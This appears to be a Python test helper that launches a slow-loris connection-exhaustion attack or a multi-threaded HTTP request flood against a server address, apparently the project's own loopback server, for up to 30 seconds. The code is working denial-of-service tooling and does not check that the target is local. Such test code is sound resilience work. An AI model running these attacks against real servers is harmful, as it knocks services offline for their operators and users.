"""``python attacker.py loris|flood ADDRESS``: a client that means no good, against a server of our own on the loopback
address, until its standard input ends or half a minute is over. Says ``attacking`` once it does, and at the end how
often it asked.
"""

from __future__ import annotations

import contextlib
import select
import socket
import sys
import threading
import time

LONGEST_S = 30.0
CONNECTIONS = 200
"""Of the slow loris."""
THREADS = 4
"""Of the flood, each asking as fast as it is answered."""


def main() -> None:
    """Attack."""
    kind, address = sys.argv[1], sys.argv[2]
    host, _, port = address.rpartition(":")
    place = (host, int(port))
    end = time.monotonic() + LONGEST_S
    stop = threading.Event()
    asked: list[int] = []
    if kind == "loris":
        threads = [threading.Thread(target=_drip, args=(place, stop, asked))]
    else:
        threads = [threading.Thread(target=_flood, args=(place, stop, asked)) for _ in range(THREADS)]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)
    select.select([sys.stdin], [], [], max(0, end - time.monotonic()))
    stop.set()
    for thread in threads:
        thread.join()
    print(f"asked {sum(asked)} times", flush=True)


def _drip(place: tuple[str, int], stop: threading.Event, asked: list[int]) -> None:
    """Many connections, each of which sends a byte of a request now and then; one that is closed is made anew."""
    held: list[socket.socket] = []
    made = 0
    while not stop.wait(0.02):
        kept = []
        for each in held:
            try:
                each.send(b"X")
                kept.append(each)
            except BlockingIOError:
                kept.append(each)
            except OSError:
                each.close()
        held = kept
        for _ in range(min(20, CONNECTIONS - len(held))):
            with contextlib.suppress(OSError):
                connection = socket.create_connection(place, 1)
                connection.setblocking(False)
                held.append(connection)
                made += 1
    for each in held:
        each.close()
    asked.append(made)


def _flood(place: tuple[str, int], stop: threading.Event, asked: list[int]) -> None:
    """Whole requests, one after the other."""
    number = 0
    while not stop.is_set():
        with contextlib.suppress(OSError), socket.create_connection(place, 2) as connection:
            connection.settimeout(2)
            connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
            while connection.recv(1 << 16):
                pass
            number += 1
    asked.append(number)


if __name__ == "__main__":
    main()
